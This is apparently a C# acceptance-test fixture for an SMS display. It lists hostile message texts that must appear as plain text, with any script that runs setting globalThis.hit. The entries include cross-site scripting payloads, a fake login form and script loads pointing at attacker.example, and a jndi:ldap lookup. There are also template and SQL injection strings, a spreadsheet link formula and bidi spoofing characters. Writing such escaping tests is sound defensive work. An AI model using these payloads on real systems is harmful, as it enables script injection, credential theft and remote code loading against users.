namespace Acceptance.Sms;

/// <summary>A text and what must be read on the screen.</summary>
internal sealed record HostileText(string Text, string Shown);

/// <summary>Texts that run, load, disguise or break where text is not kept apart from markup. What runs sets <c>globalThis.hit</c>.</summary>
internal static class HostileTexts
{
    public static IReadOnlyList<HostileText> All { get; } =
    [
        // markup that runs
        Same("<script>globalThis.hit=1;alert(1)</script>"),
        Same("<img src=x onerror=\"globalThis.hit=2;alert(2)\">"),
        Same("<svg onload=globalThis.hit=3><animate onbegin=globalThis.hit=3 attributeName=x></svg>"),
        Same("\"><script src=https://attacker.example/x.js></script>"),
        Same("'-globalThis.hit=4-'"),
        Same("</p></bdi></li></ol><script>globalThis.hit=5</script>"),
        Same("</script><script>globalThis.hit=6</script>"),
        Same("--><img src=x onerror=globalThis.hit=7><!--"),
        Same("<iframe srcdoc=\"<script>parent.hit=8</script>\"></iframe>"),
        Same("<iframe src=\"javascript:parent.hit=9\"></iframe>"),
        Same("<a href=\"javascript:globalThis.hit=10\" autofocus onfocus=globalThis.hit=10>click</a>"),
        Same("<details open ontoggle=globalThis.hit=11>x</details>"),
        Same("<video><source onerror=globalThis.hit=12></video>"),
        Same("<body onload=globalThis.hit=13>"),
        Same("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=globalThis.hit=14&gt;\">"),
        Same("<noscript><p title=\"</noscript><img src=x onerror=globalThis.hit=15>\">"),

        // markup that loads, redirects or restyles
        Same("<img src=https://attacker.example/pixel.gif>"),
        Same("<link rel=stylesheet href=https://attacker.example/x.css>"),
        Same("<meta http-equiv=refresh content=\"0;url=https://attacker.example/\">"),
        Same("<style>*{display:none!important}</style>"),
        Same("<base href=https://attacker.example/>"),
        Same("<form action=https://attacker.example/><input name=password><button>Log in</button></form>"),
        Same("<div style=\"position:fixed;inset:0;z-index:99999;background:url(https://attacker.example/b)\">you have been logged out</div>"),

        // what other layers would resolve
        Same("&lt;script&gt;globalThis.hit=16&lt;/script&gt; &amp;amp; &#60;b&#62;"),
        Same("\\u003cscript\\u003eglobalThis.hit=17\\u003c/script\\u003e \\x3cb\\x3e %3Cscript%3E"),
        Same("{{constructor.constructor('globalThis.hit=18')()}} ${globalThis.hit=18} <%= 7*7 %> #{7*7} @(7*7) @{ } ${jndi:ldap://attacker.example/a}"),
        Same("{0} {1:N0} {{0}} %s %n $1 \\1 \\n"),
        Same("'; DROP TABLE entries; -- \" OR \"\"=\""),
        Same("javascript:globalThis.hit=19"),
        Same("=HYPERLINK(\"https://attacker.example/\",\"invoice\")"),

        // characters that deceive or break
        new("invoice \u202Efdp.exe\u202C \u2066hidden\u2069 \u202Bend", "invoice fdp.exe hidden end"),
        new("bell\u0007 escape\u001B[31m delete\u007F next\u0085line\u0001", "bell\uFFFD escape\uFFFD[31m delete\uFFFD next\uFFFDline\uFFFD"),
        Same("Z\u0335\u0321\u0328a\u0336\u0322l\u0337\u0334g\u0338o\u0335" + string.Concat(Enumerable.Repeat("\u0300\u0301\u0302\u0303", 40))),
        Same("zero\u200Bwidth\uFEFF and family \U0001F468\u200D\U0001F469\u200D\U0001F467, flag \U0001F1EE\U0001F1F9"),
        Same("\u0645\u0631\u062D\u0628\u0627 \u05E9\u05DC\u05D5\u05DD mixed with left to right 123"),
        Same("line one\nline two\n\n\tindented"),
        Same(new string('W', 1_500)),
        Same(string.Concat(Enumerable.Repeat("\U0001F525", 700))),
    ];

    private static HostileText Same(string text) => new(text, text);
}
